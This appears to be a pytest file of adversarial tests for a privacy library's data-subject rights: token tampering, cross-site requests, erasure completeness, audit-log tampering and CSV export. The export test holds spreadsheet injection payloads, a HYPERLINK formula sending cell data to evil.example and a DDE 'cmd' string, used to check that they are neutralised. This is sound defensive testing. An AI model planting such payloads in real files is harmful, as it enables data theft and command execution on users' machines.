"""Attacks on the data-subject rights of issue 10 (adversarial review of bdf5e15).

Each test tries to break one promise with real requests and real files: act for another
subject, change state from another site, find an erased subject's bytes left behind, see a
restricted or suspended subject through a path that should not show them, tamper with the
audit log unseen, or smuggle a formula into the CSV export. Real SQLite files, real HTTP
through the middleware (httpx's ASGI transport) or a real `veil serve --workers 2`.
"""

import asyncio
import copy
import csv
import dataclasses
import io
import json
import sqlite3
import time
from pathlib import Path

import httpx
import pytest
from policies import GUARDED

from veil import QueryError, Veil
from veil.analytics import engine
from veil.rights.erase import erase
from veil.rights.export import export, to_csv
from veil.rights.identity import sign_token
from veil.store import audit
from veil.store.keys import KeyStore
from veil_collector.cli import main

from conftest import CHROME, Site, rows, scalar, serve_collector

SID = "__Host-veil_sid"
GRANT = {"grant": ["browsing_history"]}
A_IP, B_IP = "198.51.100.20", "203.0.113.30"  # DE and JP in the test GeoIP database
BEACON_HEADERS = {"Content-Type": "text/plain"}


def beacon(path: str) -> str:
    return json.dumps(
        {"screen_w": 1920, "screen_h": 1080, "pixel_ratio": 1, "language": "de", "path": path}
    )


def found(data_dir: Path, *needles: str) -> list[tuple[str, str]]:
    """(file, needle) for each needle some file of the data directory holds, bytes as stored."""
    out = []
    for p in sorted(data_dir.iterdir()):
        if p.is_file():
            data = p.read_bytes()
            out += [(p.name, n) for n in needles if n.encode() in data]
    return out


@pytest.fixture
async def site(make_config, geoip_db, started_site) -> Site:
    cfg = make_config(policy=GUARDED, geoip={"path": str(geoip_db)}, query={"min_group_size": 1})
    return await started_site(Veil(cfg))


async def consented(site: Site, ip: str = A_IP) -> str:
    async with site.client(ip) as c:
        r = await c.post("/veil/consent", json=GRANT)
        assert r.status_code == 200, r.text
        return r.cookies[SID]


def with_cookie(client: httpx.AsyncClient, cookie: str) -> httpx.AsyncClient:
    client.cookies.set(SID, cookie, domain="shop.example")
    return client


def request_rows(site: Site) -> list[tuple]:
    return rows(site, "SELECT kind, channel, status FROM rights_requests ORDER BY received")


# -- who may ask -------------------------------------------------------------------------------


async def test_a_token_for_a_used_with_bs_cookie_acts_for_a_alone(site):
    veil = site.veil
    await veil.grant("alice", ["provision:CloudCo"])
    cookie_b = await consented(site)
    token = veil.subject_token("alice", ttl=60)
    async with with_cookie(site.client(A_IP), cookie_b) as c:
        r = await c.post(
            "/veil/rights/delete", json={}, headers={"Authorization": f"Bearer {token}"}
        )
        assert r.status_code == 200, r.text
        assert "set-cookie" not in r.headers  # B's browser cookie is not A's to end
    b = veil.ledger.subjects.browser(cookie_b)
    assert scalar(site, "SELECT COUNT(*) FROM consent_ledger WHERE subject=?", b) == 1
    alice = veil.ledger.subjects.app("alice")
    assert scalar(site, "SELECT COUNT(*) FROM consent_ledger WHERE subject=?", alice) == 0


@pytest.mark.parametrize(
    ("mangle", "status"),
    [
        (lambda t: t.upper(), 401),  # the hex pseudonym in capitals
        (lambda t: t.replace("v1.", "V1.", 1), 401),
        (lambda t: t + "=", 401),  # base64 padding on the MAC
        (lambda t: t[:-1], 401),  # the MAC one character short
        (lambda t: t.replace(".", ". ", 1), 401),  # whitespace inside
        (lambda t: " " + t, 200),  # around it: the header's whitespace, not the token's
    ],
)
async def test_case_and_whitespace_tricks_on_a_token(site, mangle, status):
    veil = site.veil
    await veil.grant("alice", ["provision:CloudCo"])
    token = mangle(veil.subject_token("alice", ttl=60))
    async with site.client(A_IP) as c:
        r = await c.get("/veil/rights/access", headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == status, r.text
    assert request_rows(site) == ([("access", "token", "done")] if status == 200 else [])


async def test_a_token_from_another_keystore_or_after_expiry_is_refused(site, tmp_path):
    veil = site.veil
    await veil.grant("alice", ["provision:CloudCo"])
    other = KeyStore.open(dataclasses.replace(veil.config.keys, path=tmp_path / "k.db"))
    try:
        foreign = sign_token(other, veil.ledger.subjects, "alice", ttl=60)
    finally:
        other.close()
    # an honest token, replayed one second after it expired
    expired = sign_token(veil.keystore, veil.ledger.subjects, "alice", ttl=1, now=time.time() - 2)
    async with site.client(A_IP) as c:
        for token, why in ((foreign, "token-invalid"), (expired, "token-expired")):
            r = await c.post(
                "/veil/rights/delete", json={}, headers={"Authorization": f"Bearer {token}"}
            )
            assert r.status_code == 401 and r.json()["type"].endswith(why), r.text
    assert request_rows(site) == []
    assert len(await veil.consents("alice")) == 1  # nothing was deleted


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://shop.example.evil.example"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},  # a sibling subdomain is another origin
    ],
)
async def test_cross_site_requests_change_nothing_get_included(site, headers):
    cookie = await consented(site)
    async with with_cookie(site.client(A_IP, **headers), cookie) as c:
        for method, verb in (("POST", "delete"), ("POST", "restrict"), ("GET", "access")):
            kw = {"json": {}} if method == "POST" else {}
            r = await c.request(method, f"/veil/rights/{verb}", **kw)
            assert r.status_code == 403, (verb, r.text)
        # a form post (text/plain, the one CORS-safe type veil accepts) from another site
        r = await c.post(
            "/veil/rights/delete", content=b"{}", headers={"Content-Type": "text/plain"}
        )
        assert r.status_code == 403
    assert request_rows(site) == []  # not even a request row: a cross-site GET writes nothing
    assert scalar(site, "SELECT COUNT(*) FROM consent_ledger") == 1
    assert scalar(site, "SELECT COUNT(*) FROM subject_limits") == 0


# -- suspension and restriction through every path --------------------------------------------


async def test_a_suspended_subjects_beacons_store_nothing(site):
    cookie = await consented(site)
    subject = site.veil.ledger.subjects.browser(cookie)
    async with with_cookie(site.client(A_IP, **BEACON_HEADERS), cookie) as c:
        assert (await c.post("/veil/e", content=beacon("/before-Quagga"))).status_code == 202
        await site.veil.flush()
        before = scalar(site, "SELECT COUNT(*) FROM event_rows")
        r = await c.post("/veil/rights/suspend", json={})
        assert r.status_code == 200 and r.json()["changed"] is True, r.text
        for path in ("/during-1-Quagga", "/during-2-Quagga"):
            assert (await c.post("/veil/e", content=beacon(path))).status_code == 202
        await site.veil.flush()
        assert scalar(site, "SELECT COUNT(*) FROM event_rows") == before
        assert rows(site, "SELECT path FROM events_browsing_history WHERE subject=?", subject) == [
            ("/before-Quagga",)
        ]
        r = await c.post("/veil/rights/suspend", json={"resume": True})
        assert r.json()["changed"] is True
        assert (await c.post("/veil/e", content=beacon("/after-Quagga"))).status_code == 202
        await site.veil.flush()
    assert len(rows(site, "SELECT 1 FROM events_browsing_history WHERE subject=?", subject)) == 2


async def test_a_restricted_subject_vanishes_from_every_dimension(site):
    cookies = [await consented(site, ip) for ip in (A_IP, B_IP)]
    for ip, cookie in zip((A_IP, B_IP), cookies, strict=True):
        async with with_cookie(site.client(ip), cookie) as c:
            for path in ("/x", "/y"):
                assert (await c.get(path)).text == "page"
    await site.veil.flush()
    store = site.veil.store

    async def totals() -> dict[str, int]:
        """Events per grouping, over every dimension the purpose holds, and no grouping."""
        policy, out = site.veil.config.policy, {}
        for by in [(d,) for d in engine.DIMENSIONS] + [()]:
            query = engine.StatsQuery("browsing_history", by=by)
            try:
                engine.validate(policy, query)
            except QueryError:
                continue  # a dimension browsing_history does not hold
            result = await engine.run(store, policy, query, 1)
            out[",".join(by) or "-"] = sum(c.values["events"] for c in result.cells if c.values)
        return out

    assert set((await totals()).values()) == {4}
    async with with_cookie(site.client(A_IP), cookies[0]) as c:
        assert (await c.post("/veil/rights/restrict", json={})).status_code == 200
    assert set((await totals()).values()) == {2}, await totals()
    async with with_cookie(site.client(A_IP), cookies[0]) as c:
        assert (await c.post("/veil/rights/restrict", json={"lift": True})).status_code == 200
    assert set((await totals()).values()) == {4}


# -- erasure completeness -----------------------------------------------------------------------


async def test_erasure_after_a_correction_leaves_no_key_id(make_config, started, data_dir):
    """docs/rights.md: after erasure a byte search finds "nor their key's id"; a correction
    wrote the key id into the audit log, which erasure never touches."""
    veil = await started(Veil(make_config(policy=GUARDED)))
    await veil.record("alice", "care", plan="Plan-Ibex-1")
    ((record_id, key_id),) = rows(veil, "SELECT id, key_id FROM records")
    await veil.correct("alice", record_id, "plan", "Plan-Ibex-2")
    await veil.erase("alice")
    assert found(data_dir, "Plan-Ibex", veil.ledger.subjects.app("alice")) == []
    assert found(data_dir, key_id) == []
    ((details,),) = rows(veil, "SELECT details FROM audit_log WHERE kind='correction'")
    assert json.loads(details)["key_ref"] == audit.id_ref(key_id)  # the key by its hash


async def test_an_http_erasure_by_token_leaves_nothing_in_any_file(site, data_dir):
    veil = site.veil
    await veil.grant("zoe-Tapir-user", ["provision:CloudCo", "special:medical_history:care"])
    await veil.record("zoe-Tapir-user", "care", plan="Plan-Tapir", diagnosis="Dx-Tapir")
    decision = await veil.decide(
        "zoe-Tapir-user", "reminder_time", "9am-Tapir", inputs={"q": "in-Tapir"}
    )
    await veil.contest(decision, "why-Tapir")
    await veil.provide("CloudCo", "care", [{"subject": "zoe-Tapir-user", "plan": "x"}])
    zoe = veil.ledger.subjects.app("zoe-Tapir-user")
    ((key_id,),) = rows(veil, "SELECT key_id FROM subject_keys")
    token = veil.subject_token("zoe-Tapir-user", ttl=60)
    auth = {"Authorization": f"Bearer {token}"}
    async with site.client(A_IP) as c:
        r = await c.post("/veil/rights/delete", json={}, headers=auth)
        assert r.status_code == 200, r.text
        # the same token, replayed after the erasure: it proves zoe, who has nothing now
        again = await c.get("/veil/rights/access", headers=auth)
        assert again.status_code == 200
        data = again.json()["data"]
        assert all(data["counts"][k] == 0 for k in data["counts"] if k != "requests")
    needles = [zoe, "zoe-Tapir-user", key_id, decision, "Tapir"]
    assert found(data_dir, *needles) == [], "an erased subject's bytes are still on disk"
    with audit.open_readonly(Path(veil.config.store.path)) as db:
        head = audit.read_anchor(audit.head_path(Path(veil.config.store.path)))
        assert audit.verify(db, head) == []


# -- export ----------------------------------------------------------------------------------


async def test_an_export_holds_no_one_elses_rows_on_a_shared_network(site):
    cookie_a, cookie_b = await consented(site), await consented(site)  # same IP, same day
    for cookie, path in ((cookie_a, "/mine-Kudu"), (cookie_b, "/theirs-Eland")):
        async with with_cookie(site.client(A_IP), cookie) as c:
            assert (await c.get(path)).text == "page"
    await site.veil.flush()
    async with with_cookie(site.client(A_IP), cookie_a) as c:
        doc = (await c.get("/veil/rights/export")).json()["data"]
        text = (await c.get("/veil/rights/export", params={"format": "csv"})).text
    assert "Kudu" in json.dumps(doc) and "Eland" not in json.dumps(doc) + text
    assert doc["counts"]["events"] == 1 and doc["counts"]["consents"] == 1


async def test_csv_export_has_no_cell_a_spreadsheet_runs_as_a_formula(make_config, started):
    veil = await started(Veil(make_config(policy=GUARDED)))
    evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    await veil.grant("mallory", ["special:medical_history:care"])
    await veil.record("mallory", "care", plan=evil, diagnosis="+1+cmd|' /C calc'!A0")
    doc = await export(
        veil.store, veil.keystore, veil.config.policy, veil.ledger.subjects.app("mallory")
    )
    table = list(csv.reader(io.StringIO(to_csv(doc))))
    values = [json.loads(row[-1]).get("values") for row in table[1:] if row[0] == "records"]
    assert values == [{"plan": evil, "diagnosis": "+1+cmd|' /C calc'!A0"}]  # there, ...
    formula = [c for row in table for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formula == []  # ... but never at the start of a cell


# -- erasure against what is still in flight ---------------------------------------------------


async def test_requests_queued_before_an_erasure_are_not_stored_after_it(site, data_dir):
    """The browser's last requests wait in the capture queue (not flushed) when the delete
    arrives; the batch written after the erasure must not bring the subject back."""
    cookie = await consented(site)
    async with with_cookie(site.client(A_IP), cookie) as c:
        assert (await c.get("/kept-Serval")).text == "page"
        await site.veil.flush()
        for i in range(20):
            assert (await c.get(f"/queued-{i}-Serval")).text == "page"
        r = await c.post("/veil/rights/delete", json={})
        assert r.status_code == 200, r.text
    await site.veil.flush()
    subject = site.veil.ledger.subjects.browser(cookie)
    assert rows(site, "SELECT COUNT(*) FROM event_rows WHERE subject IS NOT NULL") == [(0,)]
    assert found(data_dir, subject, "Serval", cookie.split(".")[0]) == []


def _sid(response: httpx.Response) -> str:
    for header in response.headers.get_list("set-cookie"):
        name, _, rest = header.partition("=")
        if name == SID:
            return rest.split(";", 1)[0]
    raise AssertionError(f"no {SID} in {response.headers}")


def test_an_erasure_on_veil_serve_workers_leaves_nothing_in_any_file(tmp_path, master_key):
    """`veil serve --workers 2`: the erasure runs in an HTTP worker, the rows were written by
    the writer process (its own connection, its own view of the WAL); beacons that still
    carry the old cookie afterwards store nothing of theirs. Once the server stopped, no
    file holds a row with a subject, a ledger row, the cookie id or a path of theirs.
    (A batch racing the erasure stores nothing: see the deterministic test below.)"""
    server = serve_collector(tmp_path, master_key, "[capture]\nflush_interval = 0.05\n", workers=2)
    try:
        with httpx.Client(base_url=server.url, headers={"User-Agent": CHROME}) as c:
            r = c.post("/veil/consent", json=GRANT)
            assert r.status_code == 200, r.text
            cookie = _sid(r)
            jar = {"Cookie": f"{SID}={cookie}", **BEACON_HEADERS}
            for i in range(30):
                r = c.post("/veil/e", content=beacon(f"/a-{i}-Civet"), headers=jar)
                assert r.status_code == 202
            deadline = time.monotonic() + 20
            while scalar(server.db, "SELECT COUNT(*) FROM events_browsing_history") < 30:
                assert time.monotonic() < deadline, server.log.read_text()
                time.sleep(0.05)
            r = c.post("/veil/rights/delete", json={}, headers={"Cookie": f"{SID}={cookie}"})
            assert r.status_code == 200, r.text
            assert r.json()["deleted"]["counts"]["events_browsing_history"] == 30
            for i in range(10):  # a tab that did not hear of it
                r = c.post("/veil/e", content=beacon(f"/b-{i}-Civet"), headers=jar)
                assert r.status_code == 202
            deadline = time.monotonic() + 20
            while scalar(server.db, "SELECT COUNT(*) FROM events_connection") < 40:
                assert time.monotonic() < deadline, server.log.read_text()
                time.sleep(0.05)
    finally:
        assert server.stop() == 0
    data = tmp_path / "data"
    assert rows(data / "veil.db", "SELECT COUNT(*) FROM consent_ledger") == [(0,)]
    assert rows(data / "veil.db", "SELECT COUNT(*) FROM event_rows WHERE subject IS NOT NULL") == [
        (0,)
    ]
    assert found(data, cookie.split(".")[0], "Civet") == []


# -- the audit log ---------------------------------------------------------------------------


async def test_a_ledger_row_reusing_an_erased_id_cannot_be_removed_unseen(
    make_config, started, data_dir
):
    """consent_ledger ids are rowids: after an erasure removed the newest rows, the next row
    gets one of their ids again. Removing that new row (a withdrawal, so that the grant
    before it looks in force) must still be named: the erasure listed the id before it was
    reused, not the row that has it now."""
    veil = await started(Veil(make_config(policy=GUARDED)))
    await veil.grant("alice-Okapi", ["provision:CloudCo"])
    await veil.grant("bob-Okapi", ["provision:CloudCo"])
    ((bobs_id,),) = rows(veil, "SELECT MAX(id) FROM consent_ledger")
    proof = await veil.erase("bob-Okapi")
    assert proof["ledger_ids"] == [bobs_id]
    await veil.withdraw("alice-Okapi", ["provision:CloudCo"])
    ((withdrawal_id, action),) = rows(veil, "SELECT id, action FROM consent_ledger WHERE id > 1")
    assert (withdrawal_id, action) == (bobs_id, "withdraw")  # the id came back
    await veil.stop()
    path = Path(veil.config.store.path)
    with audit.open_readonly(path) as db:
        assert audit.verify(db, audit.read_anchor(audit.head_path(path))) == []  # no false alarm
    with sqlite3.connect(path) as db:  # someone with the file: the grant is in force again
        db.execute("DROP TRIGGER consent_ledger_no_delete")
        db.execute("DELETE FROM consent_ledger WHERE id = ?", (withdrawal_id,))
    with audit.open_readonly(path) as db:
        findings = [str(f) for f in audit.verify(db)]
    assert any(f"consent_ledger row {withdrawal_id} was removed" in f for f in findings), findings


async def test_a_reader_during_an_erasure_does_not_leave_the_subject_in_the_wal(site, data_dir):
    """An analyst's long read holds the WAL while the delete runs: the proof says
    wal_truncated false and "the next checkpoint will do it". Once the reader is gone and
    the site goes on writing, the WAL must not still hold the erased subject's pages."""
    cookie = await consented(site)
    subject = site.veil.ledger.subjects.browser(cookie)
    async with with_cookie(site.client(A_IP), cookie) as c:
        assert (await c.get("/secret-Margay")).text == "page"
    await site.veil.flush()
    cookie_b = await consented(site, B_IP)
    for i in range(40):  # others' rows join the page: each later frame copies A's row too
        async with with_cookie(site.client(B_IP), cookie_b) as c:
            assert (await c.get(f"/b-{i}")).text == "page"
        await site.veil.flush()
    assert found(data_dir, "Margay")
    reader = sqlite3.connect(Path(site.veil.config.store.path))
    reader.execute("BEGIN")
    reader.execute("SELECT COUNT(*) FROM events_browsing_history").fetchone()  # a snapshot
    try:
        async with with_cookie(site.client(A_IP), cookie) as c:
            r = await c.post("/veil/rights/delete", json={})
            assert r.status_code == 200, r.text
        assert r.json()["deleted"]["wal_truncated"] is False
    finally:
        reader.rollback()
        reader.close()
    for i in range(3):  # the site goes on: another visitor, other writes
        async with site.client(B_IP) as c:
            assert (await c.get(f"/other-{i}")).text == "page"
        await site.veil.flush()
        await asyncio.sleep(0.2)
    assert found(data_dir, subject, "Margay", cookie.split(".")[0]) == []


async def test_lawful_changes_raise_no_false_alarm_and_a_dpo_erasure_by_cookie_is_complete(
    make_config, geoip_db, started_site, data_dir, capsys
):
    """Withdrawal (a disposal), restriction lifted, a correction, a DPO erasure by cookie
    from the CLI while the site runs: `veil audit verify` exits 0, and nothing of the erased
    browser is in any file."""
    site = await started_site(Veil(make_config(geoip={"path": str(geoip_db)})))
    config = data_dir / "veil.toml"
    config.write_text(
        f'[store]\nurl = "sqlite:///{site.veil.config.store.path}"\n'
        f'[keys]\npath = "{site.veil.config.keys.path}"\n'
    )
    cookie_a, cookie_b = await consented(site, A_IP), await consented(site, B_IP)
    for cookie, ip, path in ((cookie_a, A_IP, "/a-Genet"), (cookie_b, B_IP, "/b-Genet")):
        async with with_cookie(site.client(ip), cookie) as c:
            assert (await c.get(path)).text == "page"
    await site.veil.flush()
    async with with_cookie(site.client(B_IP), cookie_b) as c:
        r = await c.post("/veil/consent", json={"withdraw": ["browsing_history"]})
        assert r.status_code == 200, r.text
        with_cookie(c, cookie_b)  # the subject, still (their browser may drop the cookie)
        assert (await c.post("/veil/rights/restrict", json={})).status_code == 200
        assert (await c.post("/veil/rights/restrict", json={"lift": True})).status_code == 200
    assert rows(site, "SELECT path FROM events_browsing_history") == [("/a-Genet",)]

    def cli(*argv: str) -> tuple[int, str]:
        code = main([*argv, "--config", str(config)])
        out = capsys.readouterr()
        return code, out.out + out.err

    code, out = await asyncio.to_thread(cli, "rights", "delete", "--cookie", cookie_a)
    assert code == 0, out
    code, out = await asyncio.to_thread(cli, "audit", "verify")
    assert code == 0 and "audit log intact" in out, out
    subject_a = site.veil.ledger.subjects.browser(cookie_a)
    assert found(data_dir, subject_a, "a-Genet", cookie_a.split(".")[0]) == []
    assert rows(site, "SELECT COUNT(*) FROM consent_ledger WHERE subject=?", subject_a) == [(0,)]
    # the audit log names the remaining subject by a keyed reference only
    logged = " ".join(d for (d,) in rows(site, "SELECT details FROM audit_log"))
    subject_b = site.veil.ledger.subjects.browser(cookie_b)
    for needle in (subject_b, cookie_b.split(".")[0], "Genet", A_IP, B_IP):
        assert needle not in logged


@pytest.mark.parametrize("record_id", [True, 1.0, "1", 2**70, -1, None, [1]])
async def test_a_correction_by_cookie_reaches_no_app_users_record(site, record_id):
    """A browser subject names record ids it may guess (1, 2, …) with type tricks: every
    one is refused as not theirs, nothing changes, and no 500 reveals anything."""
    veil = site.veil
    await veil.record("alice", "care", plan="Plan-Dhole")
    ((real_id, sealed),) = rows(veil, "SELECT id, sealed FROM records")
    cookie = await consented(site)
    async with with_cookie(site.client(A_IP), cookie) as c:
        for rid in (record_id, real_id):
            r = await c.post(
                "/veil/rights/correct", json={"record_id": rid, "field": "plan", "value": "x"}
            )
            assert r.status_code == 400, (rid, r.text)
    assert rows(veil, "SELECT sealed FROM records") == [(sealed,)]
    assert all(s == "done" for (_, _, s) in request_rows(site))


async def test_a_batch_read_before_an_erasure_and_written_after_it_stores_nothing(
    make_config, geoip_db, started_site, started
):
    """Two processes on one store, as `veil serve --workers 2` runs them, made
    deterministic: this one's writer has read the consent view of a batch and waits for
    its turn to write while the other one erases the subject."""
    cfg = make_config(geoip={"path": str(geoip_db)})
    site = await started_site(Veil(cfg))
    other = await started(Veil(cfg))  # the worker that serves the delete
    cookie = await consented(site)
    subject = site.veil.ledger.subjects.browser(cookie)
    gate = site.veil.store._gate
    await gate.acquire()  # the writer's turn to write comes after the erasure
    try:
        async with with_cookie(site.client(A_IP), cookie) as c:
            assert (await c.get("/late-Fossa")).text == "page"
        flushing = asyncio.create_task(site.veil.flush())
        await asyncio.sleep(0.3)  # the view is read; the write waits for the gate
        assert not flushing.done()
        proof = await erase(other.store, other.keystore, subject, "req-race")
        assert proof["counts"]["consent_ledger"] == 1
    finally:
        gate.release()
    await flushing
    assert rows(site, "SELECT COUNT(*) FROM consent_ledger WHERE subject=?", subject) == [(0,)]
    assert rows(site, "SELECT COUNT(*) FROM event_rows WHERE subject=?", subject) == [(0,)]
    # not silent: counted, as every drop is
    assert rows(site, "SELECT SUM(count) FROM drops WHERE reason = 'erased'") == [(1,)]


async def test_an_erasure_reaches_a_purpose_table_a_later_policy_version_added(
    make_config, geoip_db, started_site, data_dir
):
    first = await started_site(Veil(make_config(policy=GUARDED, geoip={"path": str(geoip_db)})))
    cookie = await consented(first)
    async with with_cookie(first.client(A_IP), cookie) as c:
        assert (await c.get("/v1-Jerboa")).text == "page"
    await first.veil.stop()
    later = copy.deepcopy(GUARDED)
    later["version"] = "g2"
    later["changes"] = [
        {"version": "g2", "effective": GUARDED["effective"], "summary": "Personalisation."}
    ]
    later["purposes"]["personalisation"] = {
        "description": "Remember the visitor's language",
        "data_use": "functional.service.personalize",
        "legal_basis": "consent",
        "retention": "30d",
        "fields": ["user_agent", "accept_language", "path"],
    }
    site = await started_site(Veil(make_config(policy=later, geoip={"path": str(geoip_db)})))
    subject = site.veil.ledger.subjects.browser(cookie)
    async with with_cookie(site.client(A_IP), cookie) as c:
        r = await c.post("/veil/consent", json={"grant": ["personalisation"]})
        assert r.status_code == 200, r.text
        with_cookie(c, cookie)
        assert (await c.get("/v2-Jerboa")).text == "page"
        await site.veil.flush()
        assert rows(site, "SELECT COUNT(*) FROM events_personalisation WHERE subject=?", subject)
        r = await c.post("/veil/rights/delete", json={})
        assert r.status_code == 200, r.text
    counts = r.json()["deleted"]["counts"]
    assert counts["events_personalisation"] >= 1 and counts["events_browsing_history"] >= 1
    assert found(data_dir, subject, "Jerboa", cookie.split(".")[0]) == []
